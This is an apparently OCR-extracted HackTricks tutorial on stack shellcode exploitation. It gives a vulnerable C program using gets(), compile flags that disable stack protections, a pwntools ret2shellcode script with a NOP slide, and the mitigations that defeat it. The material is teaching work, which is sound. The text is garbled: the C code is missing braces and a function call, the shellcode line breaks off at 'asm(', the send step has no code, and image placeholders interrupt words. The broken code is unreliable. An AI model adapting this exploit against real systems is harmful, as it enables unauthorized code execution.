Stack Shellcode

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Basic Information

Stack shellcode is a technique used in binary exploitation where an attacker writes shellcode to a vulnerable program's stack and then modifies the Instruction Pointer (IP) or Extended Instruction Pointer (EIP) to point to the location of this shellcode, causing it to execute. This is a classic method used to gain unauthorized access or execute arbitrary commands on a target system. Here's a breakdown of the process, including a simple C example and how you might write a corresponding exploit using Python with pwntools.

C Example: A Vulnerable ProgramLet's start with a simple example of a vulnerable C program:

#include <stdio.h>
#include <string.h>

void vulnerable_function() {
    char buffer[64];
    gets(buffer); // Unsafe function that does not check for buffer overflow

int main() {
    printf("Returned safely\n");
    return 0;

This program is vulnerable to a buffer overflow due to the use of the gets() function.


To compile this program while disabling various protections (to simulate a vulnerable environment), you can use the following command:

gcc -m32 -fno-stack-protector -z execstack -no-pie -o vulnerable vulnerable.c
  • -fno-stack-protector: Disables stack protection.

  • -z execstack: Makes the stack executable, which is necessary for executing shellcode stored on the stack.

  • -no-pie: Disables Position Independent Executable, making it easier to predict the memory address where our shellcode will be located.

  • -m32: Compiles the program as a 32-bit executable, often used for simplicity in exploit development.

Python Exploit using PwntoolsHere's how you could write an exploit in Python using pwntools to perform a ret2shellcode attack:

from pwn import *

# Set up the process and context
binary_path = './vulnerable'
p = process(binary_path)
context.binary = binary_pathcontext.arch = 'i386' # Specify the architecture

#Generate the shellcode
shellcode = asm( # Using pwntools to generate shellcode for opening a shell

# Find the offset to EIP
offset = cyclic_find(0x6161616c) # Assuming 0x6161616c is the value found in EIP after a crash

# Prepare the payload
# The NOP slide helps to ensure that the execution flow hits the shellcode.
nop_slide = asm('nop') * (offset - len(shellcode))
payload = nop_slide + shellcode
payload += b'A' * (offset - len(payload))  # Adjust the payload size to exactly fill the buffer and overwrite EIPpayload += p32(0xffffcfb4) # Supossing 0xffffcfb4 will be inside NOP slide

# Send the payload

This script constructs a payload consisting of a NOP slide, the shellcode, and then overwrites theEIP with the address pointing to the NOP slide, ensuring the shellcode gets executed.

The NOP slide (asm('nop')) is used to increase the chance that execution will "slide" into our shellcode regardless of the exact address. Adjust the p32() argument to the starting address of your buffer plus an offset to land in the NOP slide.


  • ASLR should be disabled for the address to be reliable across executions or the address where the function will be stored won'tbe always the same and you would need some leak in order to figure out where is the winfunction loaded.

  • Stack Canaries should be also disabled or the compromised EIP return address won't never be followed.

  • NX stack protection would prevent theexecution of the shellcode inside the stack because that region won't be executable.

OtherExamples & References

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Last updated